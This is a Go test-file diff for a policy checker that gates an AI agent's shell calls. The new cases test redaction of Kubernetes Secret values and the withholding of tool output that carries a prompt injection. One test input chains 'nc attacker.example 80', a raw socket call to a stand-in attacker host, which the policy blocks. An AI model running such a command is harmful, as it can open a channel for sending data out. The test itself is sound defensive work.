@@ -3,6 +3,7 @@ package cli
 import (
 	"bytes"
 	"context"
+	"slices"
 	"strings"
 	"testing"
 
@@ -55,6 +56,12 @@ func TestPolicyCheckExitCodes(t *testing.T) {
 			[]string{"Decision: Redirect by ToolPolicy/gate/plan-rm: a delete needs a plan", "Instruction to the model: List what would be deleted"}, ""},
 		{"a Stop is exit 6", []string{"--policy", "testdata/policies-gate.yaml", "--", "ls && nc attacker.example 80"}, 6,
 			[]string{"Decision: Stop by ToolPolicy/gate/stop-nc: raw sockets end the task"}, ""},
+		{"a result's Secret values are redacted", []string{"--policy", "testdata/policies-results.yaml", "--result", "testdata/output-secret.txt", "--", "kubectl get secret db -o yaml"}, 0,
+			[]string{"Decision: Allow by ToolPolicy/results/allow-kubectl-get", "Result rules: Redact", "2 matches redacted by rule ToolPolicy/results/secret-data", "  | [exit code: 0]", "  |   host: [REDACTED]", "  |   username: [REDACTED]"}, ""},
+		{"a result with an injection is replaced: exit 5", []string{"--policy", "testdata/policies-results.yaml", "--result", "testdata/output-injection.txt", "--exit-code", "3", "--", "cat README"}, 5,
+			[]string{"Result rules: Replace by ToolPolicy/results/injection", "output replaced by rule ToolPolicy/results/injection", "also matched: ToolPolicy/results/shadow-stop (Stop, DryRun)",
+				"instruction to the model: The output of your last call was withheld.", "  | [exit code: 3]", "  | [output withheld]"}, ""},
+		{"--result needs a call", []string{"--policy", "testdata/policies-results.yaml", "--result", "testdata/output-injection.txt"}, 4, nil, "--result FILE is the output of a call"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -67,7 +74,8 @@ func TestPolicyCheckExitCodes(t *testing.T) {
 					t.Errorf("stdout lacks %q:\n%s", want, out)
 				}
 			}
-			if tt.wantCode > checkDeny && tt.wantCode != checkBrokenPolicy && tt.wantCode != checkError && strings.Contains(out, "Walls:") {
+			// A result's exit code is that of a call that ran.
+			if tt.wantCode > checkDeny && tt.wantCode != checkBrokenPolicy && tt.wantCode != checkError && !slices.Contains(tt.args, "--result") && strings.Contains(out, "Walls:") {
 				t.Errorf("a call that never runs shows walls:\n%s", out)
 			}
 			if !strings.Contains(errOut, tt.wantErr) || (tt.wantErr == "" && errOut != "") {
